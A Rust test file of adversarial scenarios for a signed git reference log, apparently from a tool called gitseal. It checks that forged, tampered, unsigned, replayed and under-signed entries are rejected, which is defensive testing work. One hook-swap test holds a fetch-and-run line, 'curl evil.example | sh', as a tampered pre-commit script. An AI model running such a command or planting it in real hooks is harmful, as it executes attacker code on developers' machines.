//! Adversarial tests: every scenario here is an attacker trying to get a
//! forged, tampered, or under-signed entry past verification. The remote
//! stores are deliberately dumb and accept anything; the point is that
//! clients reject it.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use gitseal::crypto::{sha256_hex, Keypair};
use gitseal::engine::{CommitState, Engine, EngineConfig};
use gitseal::git::{MemoryRemote, RslRemote};
use gitseal::hooks::HookManifestEntry;
use gitseal::metadata::{PolicyDocument, RoleDefinition, ROLE_HOOKS, ROLE_POLICY, ROLE_PUSH};
use gitseal::rsl::{EntryKind, EntrySignature, ReferenceStateLog, RslEntry, REF_HOOKS, REF_POLICY};
use gitseal::SealError;

fn keypair(seed: u8) -> Keypair {
    Keypair::from_seed(&[seed; 32]).expect("32-byte seed")
}

fn policy_for(keys: &[&Keypair], threshold: u32, version: u64) -> PolicyDocument {
    let mut key_map = BTreeMap::new();
    let mut ids = BTreeSet::new();
    for kp in keys {
        key_map.insert(kp.key_id().to_string(), kp.public_key().to_hex());
        ids.insert(kp.key_id().to_string());
    }
    let def = RoleDefinition {
        key_ids: ids,
        threshold,
    };
    let mut roles = BTreeMap::new();
    roles.insert(ROLE_POLICY.to_string(), def.clone());
    roles.insert(ROLE_HOOKS.to_string(), def.clone());
    roles.insert(ROLE_PUSH.to_string(), def);
    PolicyDocument {
        version,
        keys: key_map,
        roles,
    }
}

/// Remote with a genesis policy and `pushes` signed ref updates.
fn seeded_remote(kp: &Keypair, pushes: usize) -> MemoryRemote {
    let remote = MemoryRemote::new();
    let mut log = ReferenceStateLog::new();
    let entry = log
        .append(
            REF_POLICY,
            "genesis",
            EntryKind::PolicyUpdate {
                policy: policy_for(&[kp], 1, 1),
            },
            &[kp],
            None,
        )
        .expect("genesis");
    remote
        .publish(None, &entry, Duration::from_secs(5))
        .expect("publish genesis");
    for i in 0..pushes {
        let expected = log.tip_hash().expect("tip hash");
        let entry = log
            .append(
                "refs/heads/main",
                &format!("commit{i:04}"),
                EntryKind::RefUpdate,
                &[kp],
                Some(i as u64),
            )
            .expect("push entry");
        remote
            .publish(expected, &entry, Duration::from_secs(5))
            .expect("publish");
    }
    remote
}

/// Raw access for planting forged entries: fetch, mutate, rebuild a remote.
fn corrupt_remote<F>(remote: &MemoryRemote, mutate: F) -> MemoryRemote
where
    F: FnOnce(&mut Vec<RslEntry>),
{
    let mut entries = remote
        .fetch_since(None, Duration::from_secs(5))
        .expect("fetch");
    mutate(&mut entries);
    let forged = MemoryRemote::new();
    let mut prev_hash: Option<String> = None;
    for e in &entries {
        forged
            .publish(prev_hash.clone(), e, Duration::from_secs(5))
            .expect("plant entry");
        prev_hash = Some(e.entry_hash().expect("hash"));
    }
    forged
}

#[test]
fn forged_predecessor_segment_is_rejected_on_pull() {
    let kp = keypair(1);
    let attacker = keypair(66);
    let remote = seeded_remote(&kp, 5);

    // Honest client trusts the chain through seq 5.
    let (mut victim, _) =
        Engine::clone_from(remote.clone(), EngineConfig::default()).expect("clone");
    assert_eq!(victim.log().tip_seq(), Some(5));

    // Attacker serves entries 6..=8 chained from a forged "entry 5'":
    // same sequence numbers, internally consistent links, but entry 6's
    // prev_hash points at a rewritten tip the victim never saw.
    let honest = remote
        .fetch_since(None, Duration::from_secs(5))
        .expect("fetch");
    let mut forged_tail = Vec::new();
    let mut prev = {
        let mut fake5 = honest[5].clone();
        fake5.target = "attacker0".into();
        fake5.entry_hash().expect("hash")
    };
    for (seq, target) in [(6u64, "attacker1"), (7, "attacker2"), (8, "attacker3")] {
        let mut entry = RslEntry {
            seq,
            ref_name: "refs/heads/main".into(),
            target: target.into(),
            prev_hash: Some(prev.clone()),
            policy_version: 1,
            recorded_at: "2026-08-30T00:00:00Z".into(),
            kind: EntryKind::RefUpdate,
            signatures: Vec::new(),
        };
        let payload = entry.signing_payload().expect("payload");
        entry.signatures.push(EntrySignature {
            key_id: attacker.key_id().to_string(),
            signature: hex::encode(attacker.sign(&payload).0),
        });
        prev = entry.entry_hash().expect("hash");
        forged_tail.push(entry);
    }
    let evil = MemoryRemote::new();
    let mut prev_hash = None;
    for e in honest.iter().chain(forged_tail.iter()) {
        evil.publish(prev_hash.clone(), e, Duration::from_secs(5))
            .expect("plant");
        prev_hash = Some(e.entry_hash().expect("hash"));
    }

    // The victim pulls from the attacker-controlled remote. Entry 6 (the
    // first past the trusted tip) links to the forged 5', not the real 5.
    let (log, remote_evil) = (victim.into_log(), evil);
    let mut victim = Engine::with_log(log, remote_evil, EngineConfig::default());
    let err = victim.pull().expect_err("forged segment must be rejected");
    match err {
        SealError::ChainIntegrity { .. } | SealError::Signature { .. } => {}
        other => panic!("expected integrity rejection, got {other}"),
    }
}

#[test]
fn tampered_target_is_rejected_at_clone() {
    let kp = keypair(1);
    let remote = seeded_remote(&kp, 3);
    let evil = corrupt_remote(&remote, |entries| {
        entries[2].target = "malicious".into();
    });

    let err = Engine::clone_from(evil, EngineConfig::default())
        .expect_err("tampered entry must fail clone");
    match err {
        SealError::ChainIntegrity { .. } | SealError::Signature { .. } => {}
        other => panic!("expected integrity rejection, got {other}"),
    }
}

#[test]
fn stripped_signatures_are_rejected_at_clone() {
    let kp = keypair(1);
    let remote = seeded_remote(&kp, 2);
    let evil = corrupt_remote(&remote, |entries| {
        entries[1].signatures.clear();
    });

    let err = Engine::clone_from(evil, EngineConfig::default())
        .expect_err("unsigned entry must fail clone");
    assert!(matches!(
        err,
        SealError::Signature { .. } | SealError::ChainIntegrity { .. }
    ));
}

#[test]
fn unauthorized_hook_registration_is_rejected_on_pull() {
    let kp = keypair(1);
    let outsider = keypair(66);
    let remote = seeded_remote(&kp, 0);

    // The outsider crafts a correctly-linked, correctly-signed hook entry
    // with a key the policy has never heard of, and plants it directly.
    let entries = remote
        .fetch_since(None, Duration::from_secs(5))
        .expect("fetch");
    let genesis_hash = entries[0].entry_hash().expect("hash");
    let mut entry = RslEntry {
        seq: 1,
        ref_name: REF_HOOKS.into(),
        target: sha256_hex(b"evil script"),
        prev_hash: Some(genesis_hash.clone()),
        policy_version: 1,
        recorded_at: "2026-08-30T00:00:00Z".into(),
        kind: EntryKind::HookUpdate {
            manifest: HookManifestEntry {
                stage: "pre-commit".into(),
                script_sha256: sha256_hex(b"evil script"),
                signer: outsider.key_id().to_string(),
                enabled: true,
            },
        },
        signatures: Vec::new(),
    };
    let payload = entry.signing_payload().expect("payload");
    entry.signatures.push(EntrySignature {
        key_id: outsider.key_id().to_string(),
        signature: hex::encode(outsider.sign(&payload).0),
    });
    remote
        .publish(Some(genesis_hash), &entry, Duration::from_secs(5))
        .expect("dumb remote accepts anything");

    let err = Engine::clone_from(remote, EngineConfig::default())
        .expect_err("unauthorized hook entry must be rejected");
    assert!(matches!(err, SealError::Signature { seq: 1, .. }));
}

#[test]
fn sub_threshold_rotation_is_rejected() {
    let a = keypair(1);
    let b = keypair(2);
    let remote = MemoryRemote::new();
    let mut log = ReferenceStateLog::new();
    let genesis = log
        .append(
            REF_POLICY,
            "genesis",
            EntryKind::PolicyUpdate {
                policy: policy_for(&[&a, &b], 2, 1),
            },
            &[&a, &b],
            None,
        )
        .expect("genesis");
    remote
        .publish(None, &genesis, Duration::from_secs(5))
        .expect("publish");

    let (mut engine, _) =
        Engine::clone_from(remote.clone(), EngineConfig::default()).expect("clone");

    // Signed only by a: the old policy demands two distinct keys for the
    // policy role. The rejected entry must not reach the shared store,
    // or it would wedge every later clone and pull.
    let err = engine
        .rotate_policy(policy_for(&[&a], 1, 2), &[&a])
        .expect_err("single-signer rotation must fail under threshold 2");
    assert!(matches!(err, SealError::PolicyViolation { .. }));
    assert_eq!(remote.len(), 1, "invalid rotation was propagated");

    engine
        .rotate_policy(policy_for(&[&a], 1, 2), &[&a, &b])
        .expect("quorum rotation succeeds");
}

#[test]
fn hook_swap_after_registration_warns_but_does_not_block_commit() {
    let kp = keypair(1);
    let remote = seeded_remote(&kp, 0);
    let (mut engine, _) =
        Engine::clone_from(remote, EngineConfig::default()).expect("clone");

    let script = b"#!/bin/sh\nexit 0\n";
    engine
        .register_hook("pre-commit", &sha256_hex(script), &[&kp])
        .expect("register");

    // The script on disk no longer matches the registered manifest.
    let swapped = b"#!/bin/sh\ncurl evil.example | sh\n";
    let result = engine
        .hook_registry()
        .verify_before_execution("pre-commit", swapped);
    assert!(!result.accepted);
    assert_eq!(result.anchor_seq, Some(1));

    // Commit-time checks warn and proceed; enforcement happens at push/pull.
    let outcome = engine.preflight_commit("pre-commit", Some(swapped), &kp);
    assert_eq!(outcome.state, CommitState::Warned);
    assert!(!outcome.hook.accepted);
    assert!(outcome.policy.accepted);
}

#[test]
fn duplicated_sequence_numbers_are_rejected() {
    let kp = keypair(1);
    let remote = seeded_remote(&kp, 2);
    let mut entries = remote
        .fetch_since(None, Duration::from_secs(5))
        .expect("fetch");
    let dup = entries[2].clone();
    entries.push(dup);

    let err = ReferenceStateLog::from_entries(entries)
        .expect_err("replayed entry must be rejected");
    assert!(matches!(err, SealError::ChainIntegrity { .. }));
}

#[test]
fn truncated_history_cannot_pose_as_longer_chain() {
    let kp = keypair(1);
    let remote = seeded_remote(&kp, 3);
    let (mut victim, _) =
        Engine::clone_from(remote.clone(), EngineConfig::default()).expect("clone");
    assert_eq!(victim.log().tip_seq(), Some(3));

    // A remote that rolls history back serves nothing past the victim's
    // tip; the victim's trusted view is untouched.
    let truncated = corrupt_remote(&remote, |entries| {
        entries.truncate(2);
    });
    let log = victim.into_log();
    let mut victim = Engine::with_log(log, truncated, EngineConfig::default());
    let result = victim.pull().expect("empty delta is a no-op");
    assert!(result.accepted);
    assert_eq!(victim.log().tip_seq(), Some(3));
}
